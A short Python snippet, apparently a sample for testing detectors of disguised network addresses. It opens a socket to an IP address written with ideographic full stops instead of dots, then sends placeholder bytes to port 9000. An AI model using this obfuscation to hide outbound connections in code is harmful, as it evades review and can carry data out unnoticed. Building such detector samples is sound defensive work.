"""Ideographic full stops between the numbers."""
import socket

client = socket.socket()
client.connect(("93\u3002184\u3002216\u300235", 9000))
client.sendall(b"data")
